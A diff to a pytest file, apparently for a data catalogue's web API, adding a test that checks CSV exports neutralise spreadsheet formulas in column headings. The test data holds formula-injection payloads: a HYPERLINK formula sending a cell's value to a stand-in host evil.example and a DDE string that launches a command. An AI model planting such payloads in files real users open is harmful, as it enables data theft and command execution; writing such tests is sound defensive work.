@@ -8,6 +8,9 @@ tests/catalog/test_search_whoosh.py; these add the column names, sorts, sizes an
 
 from __future__ import annotations
 
+import csv
+import io
+
 import pytest
 
 SPEND = b"supplier,amount\r\nAcme Ltd,120.50\r\nBeta plc,99.00\r\n"
@@ -174,3 +177,20 @@ def test_paths_that_climb_out_or_hold_nul_never_serve_another_file(client, spend
         # A wrong file name is sent to the file's own name; a doubled slash is merged.
         followed = client.get(response.headers["Location"])
         assert followed.status_code == 404 or followed.get_data() == SPEND
+
+
+def test_formula_headings_are_neutralised_in_csv_exports_like_any_cell(client, shared_catalogue):
+    """A publisher's file whose column headings would run as formulas in a spreadsheet."""
+    headings = [
+        '=HYPERLINK("http://evil.example/?x="&A2,"click")',
+        "+cmd|' /C calc'!A0",
+        "@SUM(1+1)",
+    ]
+    header = ",".join('"' + heading.replace('"', '""') + '"' for heading in headings)
+    content = f"{header}\r\n=1+1,-2,plain\r\n".encode()
+    dataset = shared_catalogue.dataset("formula-headings", files={"headings.csv": content})
+    rid = dataset.resources[0].id
+    exported = client.get(f"/api/data/{rid}.csv").get_data(as_text=True)
+    first, *rows = csv.reader(io.StringIO(exported))
+    assert first == ["'" + heading for heading in headings]
+    assert rows == [["'=1+1", "-2", "plain"]]
